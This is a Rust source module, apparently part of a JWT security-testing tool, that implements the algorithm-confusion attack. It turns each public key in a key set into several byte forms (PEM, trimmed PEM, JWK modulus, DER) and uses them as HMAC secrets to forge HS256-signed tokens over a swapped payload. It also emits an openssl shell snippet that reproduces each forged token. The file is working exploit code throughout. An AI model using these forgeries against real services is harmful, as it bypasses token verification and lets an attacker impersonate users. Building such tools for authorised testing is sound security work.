//! The public key as a shared secret: the algorithm-confusion attack, in the forms in which a
//! library may be handed a key.

use std::fmt::Write as _;

use aws_lc_rs::hmac;
use aws_lc_rs::rsa::PublicKey;
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::json;

use super::{Class, Forgery, Original, encode, shell};
use crate::jwt::{Key, KeySet};
use crate::secret::Secret;

/// Keys to misuse; a set has two or three.
const KEYS: usize = 4;

pub(super) fn all(original: &Original, keys: &KeySet) -> Vec<Forgery> {
    let mut forged = Vec::new();
    for (index, (_, key)) in keys.usable().take(KEYS).enumerate() {
        for (form, secret) in forms(key) {
            forged.push(forge(original, index, form, &secret));
        }
    }
    forged
}

/// A public key as bytes, each way in which it may be taken for a secret.
fn forms(key: &Key) -> Vec<(&'static str, Vec<u8>)> {
    let Some(text) = key.to_pem() else {
        return Vec::new();
    };
    let mut forms = vec![
        ("pem", text.clone().into_bytes()),
        ("pem-trimmed", text.trim_end().as_bytes().to_vec()),
    ];
    if let Ok(block) = pem::parse(&text) {
        let der = block.into_contents();
        if let Ok(key) = PublicKey::from_der(&der) {
            let modulus = key.modulus().big_endian_without_leading_zero().to_vec();
            let n = URL_SAFE_NO_PAD.encode(&modulus);
            forms.push(("jwk-n", n.into_bytes()));
            forms.push(("jwk-n-decoded", modulus));
        }
        forms.push(("der", der));
    }
    forms
}

fn forge(original: &Original, index: usize, form: &str, secret: &[u8]) -> Forgery {
    let header = json!({ "alg": "HS256", "typ": "JWT" });
    let input = format!("{}.{}", encode(&header), original.swapped);
    let key = hmac::Key::new(hmac::HMAC_SHA256, secret);
    let signature = hmac::sign(&key, input.as_bytes());
    let hex = secret.iter().fold(String::new(), |mut hex, byte| {
        let _ = write!(hex, "{byte:02x}");
        hex
    });
    Forgery {
        id: format!("hs256-{form}-{index}"),
        class: Class::PublicKeyAsSecret,
        what: format!(
            "HS256 with public key {} of the key set ({form})",
            index + 1
        ),
        token: Secret::new(format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature))),
        prelude: shell::prelude(&[
            shell::swapped_payload(original),
            shell::header(&header),
            format!(
                "SIG=$(printf %s \"$HEAD.$PAYLOAD\" | openssl dgst -sha256 -mac HMAC -macopt \
                 hexkey:{hex} -binary | b64)"
            ),
            "FORGED=\"$HEAD.$PAYLOAD.$SIG\"".into(),
        ]),
    }
}
